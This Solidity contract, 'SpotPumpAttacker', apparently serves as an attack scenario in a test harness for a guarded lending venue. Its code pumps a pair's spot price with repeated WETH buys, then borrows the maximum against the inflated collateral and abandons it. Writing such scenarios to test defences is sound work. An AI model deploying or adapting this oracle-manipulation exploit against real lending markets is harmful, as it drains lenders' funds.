// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {VenuePair, VenueRouter} from "../venue/Amm.sol";
import {MarginPool} from "../venue/MarginPool.sol";
import {AttestedCaller} from "../guardian/AttestedEntry.sol";

/// @title SpotPumpAttacker
/// @notice Scenario 2, over several blocks: the attacker's own stablecoins buy WETH on the pair step by step
/// (`pump`), raising the spot price the weak market reads; then `borrowAgainst` posts all the WETH bought as
/// collateral and borrows the most the market lends at the inflated price. The collateral is abandoned.
contract SpotPumpAttacker is AttestedCaller {
    VenuePair public immutable pair;
    VenueRouter public immutable router;
    MarginPool public immutable pool;
    IERC20 public immutable usd;
    IERC20 public immutable weth;
    address public immutable owner;

    error NotOwner();

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    constructor(VenuePair pair_, VenueRouter router_, MarginPool pool_, IERC20 usd_, IERC20 weth_) {
        pair = pair_;
        router = router_;
        pool = pool_;
        usd = usd_;
        weth = weth_;
        owner = msg.sender;
    }

    /// @notice Buys WETH with `usdAmount` of the owner's stablecoins (approved to this contract).
    function pump(uint256 usdAmount) external onlyOwner returns (uint256 bought) {
        usd.transferFrom(owner, address(this), usdAmount);
        usd.approve(address(router), usdAmount);
        bought = router.swapExactIn(pair, address(usd), usdAmount, 0, address(this));
    }

    /// @notice Posts all WETH held and borrows the maximum; the stablecoins go to the owner.
    function borrowAgainst(uint256 marketId) external onlyOwner returns (uint256 borrowed) {
        uint256 collateral = weth.balanceOf(address(this));
        weth.approve(address(pool), collateral);
        pool.supplyCollateral(marketId, collateral, address(this));
        MarginPool.Market memory m = pool.market(marketId);
        uint256 value = collateral * pool.collateralPrice(marketId) / m.collateralScale;
        borrowed = value * m.params.ltvBps / 10_000 * 10_000 / (10_000 + m.params.borrowFeeBps) - 1;
        uint256 available = pool.cash(marketId);
        if (borrowed > available) borrowed = available;
        pool.borrow(marketId, borrowed, owner);
    }
}
